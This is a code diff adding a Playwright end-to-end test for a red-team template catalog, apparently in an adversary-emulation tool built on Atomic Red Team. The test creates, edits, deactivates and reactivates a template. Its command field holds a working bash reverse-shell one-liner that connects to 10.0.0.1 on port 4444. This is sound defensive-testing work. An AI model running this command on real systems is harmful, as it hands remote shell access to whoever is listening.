@@ -117,3 +117,41 @@ test("an admin imports Atomic Red Team, a red tech starts a test from a template
   expect(adminProblems).toEqual([]);
   expect(redProblems).toEqual([]);
 });
+
+test("an admin manages the catalog: stats, a custom template, edits and deactivation", async ({ page }) => {
+  const problems = watchProblems(page);
+  await signInAndWait(page, "admin", adminPassword);
+  await page.goto("/admin/system", { waitUntil: "networkidle" });
+  await expect(page.locator('#template-stats [data-stat="total"]')).toContainText("2 (2 active)");
+  await expect(page.locator('#template-stats [data-stat="sources"]')).toContainText("atomic red team 2");
+
+  await page.locator("#catalog-admin-new").click();
+  await page.waitForLoadState("networkidle");
+  await page.locator("#template-technique").fill("T1059.004");
+  await page.locator("#template-name").fill("Reverse shell with bash");
+  await page.locator("#template-platforms").fill("linux");
+  await page.locator("#template-executor").fill("bash");
+  await page.locator("#template-command").fill("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+  await page.locator("#template-remediation").fill("Alert on outbound shells\nBlock egress on 4444");
+  await page.locator("#create-template").click();
+  await expect(page.locator("#template-name")).toHaveText("Reverse shell with bash");
+  await expect(page.locator("#template-command")).toContainText("/dev/tcp/10.0.0.1/4444");
+
+  // Edit a local field, then deactivate: gone from the catalog for teams, back when reactivated.
+  await page.locator("#edit-severity").selectOption("critical");
+  await page.locator("#save-template").click();
+  await expect(page.locator("#template-admin")).toContainText("Saved.");
+  await expect(page.locator("main")).toContainText("Critical", { ignoreCase: true });
+  await page.locator("#toggle-template").click();
+  await expect(page.locator("#toggle-template")).toHaveText("Reactivate");
+  await page.goto("/catalog?search=reverse", { waitUntil: "networkidle" });
+  await expect(page.locator("#catalog-empty")).toBeVisible();
+  await page.goto("/catalog?search=reverse&include_inactive=true", { waitUntil: "networkidle" });
+  await expect(page.locator("#catalog-table tbody tr")).toHaveCount(1);
+  await expect(page.locator("#catalog-table")).toContainText("inactive");
+  await page.locator('#catalog-table [data-template="Reverse shell with bash"] a').click();
+  await page.waitForLoadState("networkidle");
+  await page.locator("#toggle-template").click();
+  await expect(page.locator("#toggle-template")).toHaveText("Deactivate");
+  expect(problems).toEqual([]);
+});
